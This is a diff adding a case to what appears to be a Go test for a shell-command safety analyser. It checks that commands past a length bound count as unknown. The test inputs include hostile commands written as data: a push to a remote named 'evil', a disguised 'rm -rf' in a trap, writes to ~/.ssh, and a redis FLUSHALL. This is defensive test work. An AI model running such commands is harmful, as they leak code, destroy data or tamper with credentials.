@@ -21,6 +21,7 @@ func TestWhatIsPastABoundIsUnknown(t *testing.T) {
 	}
 	for name, line := range map[string]string{
 		"remotes":          many("git remote add r%d https://h/x; ") + "git remote add evil https://e; git push evil main",
+		"traps":            "x=ls; " + many("trap 'true %d' EXIT; ") + "trap '$x -rf build' EXIT; x=rm",
 		"folders":          many("cd /d%d; ") + "cd ~/.ssh; cd $X; echo x > config",
 		"database lines":   "redis-cli <<E\n" + many("GET %d\n") + "FLUSHALL\nE",
 		"roots of a find":  "find " + many("d%d ") + "~/.ssh -name x -exec sed -i s/a/b/ {} +",
